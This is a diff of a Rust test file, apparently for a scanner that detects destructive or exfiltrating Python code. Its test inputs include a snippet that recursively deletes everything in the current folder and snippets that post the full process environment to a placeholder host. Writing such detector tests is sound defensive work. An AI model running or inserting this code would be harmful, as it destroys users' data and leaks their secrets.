@@ -176,3 +176,18 @@ fn the_folder_in_force_is_not_the_root() {
         "import shutil\nfrom pathlib import Path\nfor p in Path('').iterdir():\n    shutil.rmtree(p)\n";
     assert_eq!(first_texts(source, Family::Cf, Role::Path).last().map(String::as_str), Some("./*"));
 }
+
+#[test]
+fn a_helper_is_run_again_while_its_calls_show_something_new() {
+    let helper = "def tell(what):\n    print(what)\n    requests.post('https://a.invalid', data=what)";
+    let same: String = (0..30).map(|_| "tell(unknown())\n").collect();
+    assert!(sends_environment(&format!(
+        "import os, requests\nfrom b import unknown\n{helper}\n{same}tell(os.environ)\n"
+    )));
+    let other = "def go(what):\n    print(what)\n    return what";
+    let same: String = (0..30).map(|_| "go(unknown())\n").collect();
+    let source = format!(
+        "import os, requests\nfrom b import unknown\n{other}\n{same}requests.post('https://a.invalid', data=go(os.environ))\n"
+    );
+    assert!(sends_environment(&source));
+}
